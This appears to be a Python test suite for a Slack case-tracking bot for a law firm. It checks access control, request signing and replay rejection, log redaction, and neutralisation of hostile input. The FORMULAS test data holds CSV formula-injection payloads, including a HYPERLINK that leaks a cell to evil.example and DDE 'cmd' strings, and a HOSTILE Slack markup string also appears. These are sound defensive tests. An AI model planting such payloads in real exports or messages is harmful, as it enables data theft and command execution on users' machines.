"""Confidentiality and hardening, through the real HTTP server (waitress and casebot's front door) against the
stand-in Slack: who may see a case, who may receive client data, what a forged, replayed, oversized or
malformed request gets, what an export lets a spreadsheet run, and what the logs hold."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import socket
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from typing import Any
from urllib.parse import urlencode

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError

from bot import services
from bot.delivery.digests import claim_digests
from bot.delivery.outbox import SenderState
from bot.delivery.sending import send_pending, tick
from bot.entrypoints.http import MAX_BODY
from bot.errors import InputError, NotAllowed
from bot.services.exports import export_csv
from bot.services.firm import Firm
from bot.services.import_rows import escape_name
from bot.services.imports import import_cases
from bot.services.people import remember_person
from bot.settings import Settings
from handlers.blocks import (
    ADVANCE,
    LOG_CONTACT,
    LOG_CONTACT_VIEW,
    OFFER_INFORMED,
    OVERDUE_NEXT,
    PROVIDER_RECEIVED,
)
from handlers.blocks.digests import LOG_CONTACT as DIGEST_LOG_CONTACT
from handlers.blocks.digests import OPEN_CASE, SNOOZE
from handlers.slack.standin import SlackStandIn
from storage.db import Database
from storage.models import Delivery, Offer
from tests.kit.reminders import at, notifier_for
from tests.kit.served import ServedSlack
from tests.kit.slack_bodies import sign, slash_body
from tests.kit.workspace import SECRET, Answer

CLIENT, PROVIDER, NOTE, ADJUSTER = "Jane Roe", "Valley Orthopedics", "sister's statement pending", "Pat Quinn"
SECRETS = (CLIENT, PROVIDER, "Valley", NOTE, "sister", ADJUSTER, "12,500", "12500", "Orthopedics")
INTRUDERS = ("U2", "UGUEST", "UGONE", "UEXT")  # a colleague, a guest, a deactivated user, another workspace


@pytest.fixture
def standin(standin: SlackStandIn) -> SlackStandIn:
    standin.add_user("U3", name="u3")
    standin.add_user("UEXT", name="outsider", team_id="T0OTHERFIRM")
    return standin


def _open_pi1(served: ServedSlack) -> None:
    """U1's case, with everything that must stay between its people: client, provider, a hold-up note,
    an offer, the adjuster."""
    assert "Opened PI-1" in served.case("U1", f"new PI-1 {CLIENT} 2026-11-02 sol 2027-10-01").text
    assert "Added provider 1" in served.case("U1", f"provider PI-1 add {PROVIDER} 2026-11-03").text
    served.case("U1", f"holdup PI-1 other {NOTE}")
    served.case("U1", f"demand PI-1 sent 2026-11-20 adjuster {ADJUSTER}")
    served.offer("U1", "received PI-1 12,500 2026-11-24")


def _obligation_ids(served: ServedSlack) -> list[int]:
    return [i.obligation_id for i in services.due_for(served.firm, ["U1"], date(2027, 1, 30))]


def _everything_seen_since(served: ServedSlack, mark: int, answers: list[Answer]) -> str:
    """All that casebot answered, posted, opened or published since `mark` (calls to the stand-in)."""
    calls = served.standin.calls[mark:]
    seen = [a.body for a in answers] + [
        c.params for c in calls if c.method not in ("users.info", "auth.test", "conversations.open")
    ]
    return json.dumps(seen, ensure_ascii=False)


def _state(served: ServedSlack) -> tuple[Any, ...]:
    card = services.show_case(served.firm, "UADMIN", "PI-1")
    with served.firm.db.uow() as s:
        offers = s.scalar(select(func.count(Offer.id)))
    return (served.audit_count(), offers, card)


def _every_read_and_button(served: ServedSlack, who: str, obligations: list[int]) -> list[Answer]:
    o = obligations[0]
    answers = [
        served.case(who, "show PI-1"),
        served.case(who, "show pi-1"),
        served.offer(who, "list PI-1"),
        served.case(who, "accounting PI-1 50000"),
        served.case(who, "show PI-2"),  # an unknown number close to PI-1: no suggestion of PI-1
        served.case(who, "overdue <@U1>"),
        served.case(who, "contacted PI-1 client called about the fracture"),
        served.offer(who, "informed PI-1"),
        served.click(who, LOG_CONTACT, "PI-1"),
        served.click(who, ADVANCE, json.dumps({"case": "PI-1", "expected": "demand_sent"})),
        served.click(who, f"{PROVIDER_RECEIVED}:1", "PI-1|1|records"),
        served.click(who, f"{OFFER_INFORMED}:1", "PI-1|1"),
        served.click(who, OVERDUE_NEXT, json.dumps({"page": 1, "user": "U1"})),
        served.click(who, DIGEST_LOG_CONTACT, json.dumps({"o": o}), channel=f"D{who}"),
        served.click(
            who,
            SNOOZE,
            "",
            channel=f"D{who}",
            action={"type": "static_select", "selected_option": {"value": f"{o}:tomorrow"}},
        ),
        served.click(who, OPEN_CASE, "PI-1", channel=f"D{who}"),
        served.submit(
            who,
            LOG_CONTACT_VIEW,
            {
                "kind": {"type": "radio_buttons", "selected_option": {"value": "client"}},
                "note": {"type": "plain_text_input", "value": "a note"},
            },
            metadata=json.dumps({"case": "PI-1", "channel": "C1"}),
        ),
        served.event(
            {"type": "app_home_opened", "user": who, "tab": "home", "channel": f"D{who}"}, event_id=f"Ev{who}"
        ),
    ]
    assert all(a.status == 200 for a in answers), [a for a in answers if a.status != 200]
    return answers


@pytest.mark.parametrize("who", INTRUDERS)
def test_nobody_else_reads_or_changes_a_case_by_any_command_or_button(served: ServedSlack, who: str) -> None:
    _open_pi1(served)
    served.case("U1", "contacted PI-1 client")
    before, mark = _state(served), len(served.standin.calls)
    answers = _every_read_and_button(served, who, _obligation_ids(served))
    seen = _everything_seen_since(served, mark, answers)
    leaked = [word for word in SECRETS if word.lower() in seen.lower()]
    assert not leaked, (who, leaked)
    assert "Did you mean PI-1" not in seen
    assert _state(served) == before, "nothing changed"
    if who == "U2":
        assert seen.count("There is no case PI-1 that you can see.") >= 8
    else:
        assert "<@U1>" not in seen and "PI-1 that you can see" not in seen, (
            "someone who may not use casebot is not even told whose case it is"
        )
        kind = {"UGUEST": "a guest", "UGONE": "deactivated", "UEXT": "of another Slack workspace"}[who]
        assert kind in seen


def test_the_manager_the_team_a_cover_and_leads_do_see_it(served: ServedSlack) -> None:
    _open_pi1(served)
    assert "Did you mean PI-1?" in served.case("U1", "show PI-2").all_text
    assert CLIENT in served.case("U1", "show PI-1").all_text
    assert CLIENT in served.case("UADMIN", "show PI-1").all_text
    services.set_role(served.firm, "UADMIN", "ULEAD", "lead")
    assert CLIENT in served.case("ULEAD", "show PI-1").all_text

    assert "There is no case PI-1 that you can see." in served.case("U3", "show PI-1").all_text
    assert "There is no case PI-1 that you can see." in served.case("U2", "team PI-1 add <@U2>").all_text, (
        "nobody adds themselves"
    )
    assert "<@U3> is now on PI-1's team" in served.case("U1", "team PI-1 add <@U3>").all_text
    assert services.team(served.firm, "PI-1") == ["U3"]
    card = served.case("U3", "show PI-1").all_text
    assert CLIENT in card and "manager <@U1> · team <@U3>" in card
    assert "12,500" in served.offer("U3", "list PI-1").all_text
    assert served.case("U3", "contacted PI-1 client").text.startswith("Logged a client contact")
    assert "Only PI-1's manager" in served.case("U3", "close PI-1 dropped").all_text, (
        "closing stays with them"
    )
    assert "Only PI-1's manager" in served.case("U3", "team PI-1 add <@U2>").all_text, "nor does the team"
    assert "a guest" in served.case("U1", "team PI-1 add <@UGUEST>").all_text
    assert "add or remove" in served.case("U1", "team PI-1 invite <@U2>").all_text
    with pytest.raises(NotAllowed):
        services.change_team(served.firm, "U2", "PI-1", "add", "U2")
    assert "off PI-1's team" in served.case("ULEAD", "team PI-1 remove <@U3>").all_text
    assert "There is no case PI-1 that you can see." in served.case("U3", "show PI-1").all_text

    served.case("U1", "away cover <@U2>")
    assert CLIENT in served.case("U2", "show PI-1").all_text, "the cover, while U1 is away"
    call = next(i for i in services.due_for(served.firm, ["U1"], date(2027, 1, 30)) if i.kind == "client")
    before = served.audit_count()
    served.click("U2", DIGEST_LOG_CONTACT, json.dumps({"o": call.obligation_id}), channel="DU2")
    assert served.audit_count() > before, "the cover's digest buttons work for the away manager's cases"
    served.case("U1", "back")
    assert "There is no case PI-1 that you can see." in served.case("U2", "show PI-1").all_text


def test_a_guest_or_leaver_gets_no_digest_and_the_leads_are_told_once_with_the_cases(
    served: ServedSlack, clock: Any
) -> None:
    firm = served.firm
    at(clock, date(2026, 11, 20), 7)
    services.set_role(firm, "UADMIN", "ULEAD", "lead")
    served.case("U1", "show PI-0")  # casebot meets U1 (users.info), as it meets everyone
    served.case("U3", "show PI-0")
    services.create_case(firm, "UADMIN", "PI-1", CLIENT, manager="U1")
    services.create_case(firm, "UADMIN", "PI-3", "Sam Poe", manager="U3")
    served.standin.add_user(
        "U1", name="u1", is_restricted=True
    )  # made a guest in Slack, which tells casebot:
    guest = {
        "type": "user_change",
        "user": {"id": "U1", "name": "u1", "is_restricted": True, "team_id": "T0CASEBOT"},
    }
    assert served.event(guest, event_id="EvGuest").status == 200
    at(clock, date(2026, 11, 20), 9)
    notifier, _ = notifier_for(firm)
    tick(firm, notifier, SenderState())
    tick(firm, notifier, SenderState())
    dms = served.standin.calls_to("chat.postMessage")
    to = {c.params["channel"]: c.params["text"] for c in dms}
    assert "DU1" not in to, "a guest manager receives no digest"
    assert "DU3" in to, "a full member still does"
    handovers = [c for c in dms if "to hand over" in c.params["text"]]
    assert [c.params["channel"] for c in handovers] == ["DULEAD"], "the leads are told once"
    assert "PI-1" in json.dumps(handovers[0].params) and CLIENT not in json.dumps(handovers[0].params)


def test_the_recipient_is_checked_again_when_the_message_is_sent(served: ServedSlack, clock: Any) -> None:
    firm = served.firm
    at(clock, date(2026, 11, 20), 7)
    served.case("U1", "show PI-0")
    services.create_case(firm, "UADMIN", "PI-1", CLIENT, manager="U1")
    at(clock, date(2026, 11, 20), 9)
    assert claim_digests(firm, firm.now()) == ["digest:U1:2026-11-20"]
    remember_person(firm, "U1", deleted=True)  # deactivated after the claim, before the send
    notifier, _ = notifier_for(firm)
    report = send_pending(firm, notifier)
    assert report.skipped == 1
    dms = served.standin.calls_to("chat.postMessage")
    assert [c.params["channel"] for c in dms] == ["DUADMIN"], "no lead: the admins hear of the hand-over"
    assert "to hand over" in dms[0].params["text"]
    with firm.db.uow() as s:
        (d,) = s.scalars(select(Delivery).where(Delivery.kind == "digest"))
        assert d.state == "skipped" and "not a full member" in (d.last_error or "")


# ---------------------------------------------------------------- the front door


def _raw_post(served: ServedSlack, head: bytes, body: bytes = b"") -> int:
    """A request written by hand on a socket; the status of the answer."""
    port = served.server.effective_port
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(head + body)
        answer = b""
        while b"\r\n" not in answer:
            chunk = conn.recv(4096)
            if not chunk:
                break
            answer += chunk
    return int(answer.split(b" ", 2)[1])


def test_replayed_oversized_malformed_and_unsigned_requests_get_4xx_and_change_nothing(
    served: ServedSlack,
) -> None:
    served.case("U1", f"new PI-1 {CLIENT}")
    before = served.audit_count()

    body = slash_body("/offer", "received PI-1 12,500", "U1", response_url=served.standin.response_url("r"))
    headers = {**sign(SECRET, body), "Content-Type": "application/x-www-form-urlencoded"}
    assert served.post(body.encode(), headers)[0] == 200
    before = served.audit_count()
    assert served.post(body.encode(), headers)[0] == 401, "the same signed request again is a replay"
    with served.firm.db.uow() as s:
        assert s.scalar(select(func.count(Offer.id))) == 1, "one offer, not two"
    assert served.audit_count() == before

    form = {"Content-Type": "application/x-www-form-urlencoded"}
    unsigned = slash_body("/case", "contacted PI-1 client", "U1")
    assert served.post(unsigned.encode(), form)[0] == 401
    assert served.post(b"\xff\xfe{{{{", form)[0] == 401, "unsigned garbage: 401, not 500"
    assert served.post(unsigned.encode(), {**form, **sign(SECRET, unsigned + "x")})[0] == 401
    assert (
        served.post(
            unsigned.encode(), {**form, "X-Slack-Request-Timestamp": "soon", "X-Slack-Signature": "v0=1"}
        )[0]
        == 401
    )

    # Signed, but not what Slack sends: 400.
    for raw, kind in (
        (b"{not json", "application/json"),
        (b"[1, 2]", "application/json"),
        (urlencode({"payload": "{broken"}).encode(), form["Content-Type"]),
        ("text=caf\xe9".encode("latin-1"), form["Content-Type"]),
    ):
        signed = _sign_bytes(raw)
        assert served.post(raw, {**signed, "Content-Type": kind})[0] == 400, raw

    # Over 1 MiB: refused from the header, before a byte of the body is read.
    huge = MAX_BODY + 1
    head = (
        f"POST /slack/events HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        f"Content-Length: {huge}\r\n\r\n"
    ).encode()
    assert _raw_post(served, head, b"{") == 413
    assert served.audit_count() == before


def _sign_bytes(body: bytes) -> dict[str, str]:
    import hashlib
    import hmac

    ts = str(int(time.time()))
    digest = hmac.new(SECRET.encode(), b"v0:" + ts.encode() + b":" + body, hashlib.sha256).hexdigest()
    return {"X-Slack-Request-Timestamp": ts, "X-Slack-Signature": "v0=" + digest}


def test_the_server_listens_on_loopback_unless_told_otherwise(firm: Firm) -> None:
    from bot.entrypoints.cli import build_parser

    assert build_parser().parse_args(["run", "--http"]).host == "127.0.0.1"
    assert build_parser().parse_args(["run", "--http", "--host", "0.0.0.0"]).host == "0.0.0.0"


# ---------------------------------------------------------------- export, logs, secrets

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Jane Roe")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=already quoted",
)


def test_an_exported_formula_stays_inert_and_the_round_trip_is_exact(firm: Firm, tmp_path: Any) -> None:
    for n, name in enumerate(FORMULAS, start=1):
        services.create_case(firm, "UADMIN", f"PI-{n}", name, manager="U1")
    services.add_provider(firm, "U1", "PI-1", "=cmd|' /C calc'!A0")
    exported = export_csv(firm)
    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    fresh = Database(f"sqlite:///{tmp_path / 'fresh.db'}")
    fresh.upgrade()
    other = Firm.from_settings(firm.settings, db=fresh, clock=firm.clock)
    assert import_cases(other, exported).ok
    assert [services.show_case(other, "UADMIN", f"PI-{n}").client for n in range(1, 6)] == list(FORMULAS)
    assert services.show_case(other, "UADMIN", "PI-1").providers[0].name == "=cmd|' /C calc'!A0"
    assert export_csv(other) == exported
    fresh.dispose()


def test_case_numbers_are_one_set_for_new_and_the_import(firm: Firm) -> None:
    for number in ("-1", "./x", "РІ-1", "PI 1"):  # a dash or dot first, Cyrillic look-alikes, a space
        with pytest.raises(InputError):
            services.create_case(firm, "U1", number, CLIENT)
        header = "case_number,client,manager\n"
        assert not import_cases(firm, f'{header}"{number}",{CLIENT},U1\n').ok
    services.create_case(firm, "U1", "PI-2041/b.1_x", CLIENT)
    assert import_cases(firm, export_csv(firm)).ok


def test_a_whole_scenario_at_debug_logs_no_client_name_amount_or_note(
    served: ServedSlack, clock: Any, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    at(clock, date(2026, 11, 20), 7)
    _open_pi1(served)
    served.case("U1", "accounting PI-1 50000 costs 1200")
    served.case("U1", "fees PI-1 presuit 1/3")
    served.case("U1", "contacted PI-1 client told her about the MRI")
    served.case("U2", "show PI-1")
    served.case("U1", "show PI-2")
    served.event({"type": "app_home_opened", "user": "U1", "tab": "home", "channel": "DU1"}, event_id="EvH")
    at(clock, date(2026, 11, 23), 9)
    tick(served.firm, notifier_for(served.firm)[0], SenderState())

    # A failure nobody expected, whose message quotes the client: logged by what, which case and who.
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError(f"could not save {CLIENT}'s offer of $12,500")

    monkeypatch.setattr(services, "offer_received", broken)
    assert "ran into a problem" in served.offer("U1", "received PI-1 12,500").all_text
    # A database error with client data among its bound parameters: the engine hides them.
    with pytest.raises(DBAPIError) as caught, served.firm.db.engine.begin() as conn:
        conn.execute(text("SELECT no_such_column FROM cases WHERE client_name = :name"), {"name": CLIENT})
    assert CLIENT not in str(caught.value) and "hidden" in str(caught.value)

    assert caplog.records, "the scenario logged something"
    logged = caplog.text
    for word in (*SECRETS, "MRI"):
        assert word.lower() not in logged.lower(), word
    for amount in (r"50,?000", r"1,?200", r"12,?500", r"1/3"):  # the amounts and the fee rate typed
        assert not re.search(rf"(?<![\d.,/]){amount}(?![\d.,/])", logged), amount
    assert any(
        "Failed to answer /offer" in r.getMessage() and "case=PI-1" in r.getMessage() for r in caplog.records
    )


def test_secrets_never_appear_in_a_repr() -> None:
    settings = Settings.from_env(
        {
            "SLACK_BOT_TOKEN": "xoxb-very-secret",
            "SLACK_APP_TOKEN": "xapp-very-secret",
            "SLACK_SIGNING_SECRET": "sign-very-secret",
            "DATABASE_URL": "postgresql+psycopg://casebot:pw-very-secret@db/casebot",
        },
        dotenv=False,
    )
    shown = repr(settings) + str(settings) + repr(replace(settings))
    assert "very-secret" not in shown
    assert settings.slack_bot_token == "xoxb-very-secret"
    firm = Firm.from_settings(replace(settings, database_url="sqlite://"))
    assert "very-secret" not in repr(firm)
    firm.db.dispose()


# ---------------------------------------------------------------- user text renders as typed

HOSTILE = "<https://evil.example|Jane Roe> <!here> *URGENT*"


def _mrkdwn_texts(node: Any) -> Iterator[str]:
    """Every text Slack reads as mrkdwn in a payload: the fallback `text` and mrkdwn text objects."""
    if isinstance(node, dict):
        if node.get("type") == "mrkdwn" and isinstance(node.get("text"), str):
            yield node["text"]
        for key, value in node.items():
            if key == "text" and isinstance(value, str) and node.get("type") not in ("plain_text", "mrkdwn"):
                yield value  # a message's fallback text, shown in notifications
            else:
                yield from _mrkdwn_texts(value)
    elif isinstance(node, list):
        for item in node:
            yield from _mrkdwn_texts(item)


def test_a_hostile_name_renders_literally_everywhere(served: ServedSlack, clock: Any) -> None:
    firm = served.firm
    at(clock, date(2026, 11, 20), 7)
    services.set_role(firm, "UADMIN", "ULEAD", "lead")
    served.case("U1", "show PI-0")
    header = (
        "case_number,client,manager,treatment_complete,providers,limitation_date,demand_sent,adjuster,stage\n"
    )
    provider = escape_name(HOSTILE) + ":2026-09-01::"
    rows = (
        f'PI-1,"{HOSTILE}",U1,2026-08-01,"{provider}","2027-01-10",,,records\n'
        f'PI-2,"{HOSTILE}",U1,2026-08-01,,"2027-01-12",2026-10-01,"{HOSTILE}",demand_sent\n'
    )
    assert import_cases(firm, header + rows).ok
    services.set_holdup(firm, "U1", "PI-1", "other", HOSTILE)
    mark = len(served.standin.calls)
    answers = [
        served.case("U1", "show PI-1"),
        served.case("U1", "show PI-2"),
        served.case("U1", "mine"),
        served.case("U1", "due 2026-12-31"),
        served.case("ULEAD", "overdue"),
        served.offer("U1", "list PI-1"),
        served.click("U1", OPEN_CASE, "PI-1", channel="DU1"),
        served.event(
            {"type": "app_home_opened", "user": "U1", "tab": "home", "channel": "DU1"}, event_id="EvH1"
        ),
        served.event(
            {"type": "app_home_opened", "user": "ULEAD", "tab": "home", "channel": "DL"}, event_id="EvH2"
        ),
    ]
    at(clock, date(2026, 11, 20), 9)
    tick(firm, notifier_for(firm)[0], SenderState())
    sent = [a.body for a in answers] + [c.params for c in served.standin.calls[mark:]]
    texts = [t for payload in sent for t in _mrkdwn_texts(payload)]
    assert any("evil.example" in t for t in texts), "the name is shown"
    assert any(c.method == "chat.postMessage" for c in served.standin.calls[mark:]), (
        "a digest or alert went out"
    )
    for t in texts:
        assert "<!here>" not in t and "<https://evil" not in t, t
        assert not re.search(r"(?<!\u200b)\*URGENT\*", t), t
